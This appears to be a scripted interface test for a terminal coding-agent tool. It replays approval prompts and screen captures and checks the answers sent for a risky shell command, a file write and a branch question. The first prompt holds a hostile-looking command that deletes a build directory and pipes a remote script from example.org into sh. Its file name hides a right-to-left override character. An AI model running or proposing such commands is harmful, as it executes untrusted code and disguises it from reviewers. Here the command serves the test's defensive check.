# A question: exact command with invisible characters shown, keys, reason, refusing, aside.
size 80x24
event {"type":"session_start","workspace":"~/src/parser","model":"gpt-5","agent":"coder","sandbox":"full","approval":"ask"}
event {"type":"phase","phase":"ask"}
event {"type":"approval","id":"q1","kind":"command","title":"Run this command?","detail":"rm -rf build && curl https://example.org/install\u202e.sh | sh","why":"It downloads and runs a program.","always":"always: commands that start with rm -rf build","choices":[{"key":"y","label":"once"},{"key":"a","label":"always"},{"key":"n","label":"no"},{"key":"e","label":"no, because","text":true}]}
screen
| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
|        mien gpt-5                                                              |
|                                                                                |
|        Write a goal and press Enter.                                           |
|                                                                                |
|        / commands, @ files, ! a shell command, F1 every key,                   |
|        Ctrl-T the task tree, Esc stops the agent at any time.                  |
|                                                                                |
|        Tip: in the tree, c gives a task a check that proves it done.           |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|▌ Run this command?                                                             |
|▌ $ rm -rf build                                                                |
|▌   && curl https://example.org/install<U+202E>.sh                              |
|▌   | sh                                                                        |
|▌ It downloads and runs a program.                                              |
|▌ always: commands that start with rm -rf build                                 |
|▌❯[y] once   [a] always   [n] no   [e] no, because                              |
|▌ ◐ waiting for you                                                             |
|▌ › tell the agent more; Ctrl-Q: a goal for afterwards                          |
|  context empty                  Enter answer · Esc no · Tab look behind        |
caret none
paste y
expect-no-request
key Tab
screen
| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
|                                                                                |
|                                                                                |
|        mien gpt-5                                                              |
|                                                                                |
|        Write a goal and press Enter.                                           |
|                                                                                |
|        / commands, @ files, ! a shell command, F1 every key,                   |
|        Ctrl-T the task tree, Esc stops the agent at any time.                  |
|                                                                                |
|        Tip: in the tree, c gives a task a check that proves it done.           |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|▌ ◐ waiting for you                                                             |
|▌ › y                                                                           |
|  context empty                  pasted into your line; the question waits      |
key C-t
key e Enter
screen
| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
|        mien gpt-5                                                              |
|                                                                                |
|        Write a goal and press Enter.                                           |
|                                                                                |
|        / commands, @ files, ! a shell command, F1 every key,                   |
|        Ctrl-T the task tree, Esc stops the agent at any time.                  |
|                                                                                |
|        Tip: in the tree, c gives a task a check that proves it done.           |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|▌ Run this command?                                                             |
|▌ $ rm -rf build                                                                |
|▌   && curl https://example.org/install<U+202E>.sh                              |
|▌   | sh                                                                        |
|▌ It downloads and runs a program.                                              |
|▌ always: commands that start with rm -rf build                                 |
|▌ [y] once   [a] always   [n] no  ❯[e] no, because                              |
|▌ ◐ waiting for you                                                             |
|▌ reason:                                                                       |
|  context empty                  Enter done, Esc cancel; your draft is kept     |
type too dangerous<Enter>
expect-request answer question=q1 choice=e text=too dangerous
event {"type":"approval_done","id":"q1","choice":"e","by":"person"}
event {"type":"approval","id":"q2","kind":"write","title":"Write src/tok.c?","detail":"@@ -1 +1 @@\n-old\n+new\n","choices":[{"key":"y","label":"once"},{"key":"n","label":"no"}]}
screen
| mien  ~/src/parser                                 ⚠ asks  gpt-5  sandbox:full |
|                                                                                |
|        mien gpt-5                                                              |
|                                                                                |
|        Write a goal and press Enter.                                           |
|                                                                                |
|        / commands, @ files, ! a shell command, F1 every key,                   |
|        Ctrl-T the task tree, Esc stops the agent at any time.                  |
|                                                                                |
|        Tip: in the tree, c gives a task a check that proves it done.           |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|                                                                                |
|▌ Write src/tok.c?                                                              |
|▌   1 − old                                                                     |
|▌   1 + new                                                                     |
|▌ [y] once   [n] no                                                             |
|▌ ◐ waiting for you                                                             |
|▌ › y                                                                           |
|  context empty                  pasted into your line; the question waits      |
key Esc
expect-request answer question=q2 choice=n
event {"type":"approval","id":"q3","kind":"question","title":"Which branch?","detail":"main or next","choices":[]}
key Enter
type next<Enter>
expect-request answer question=q3 choice=answer text=next
expect-no-request
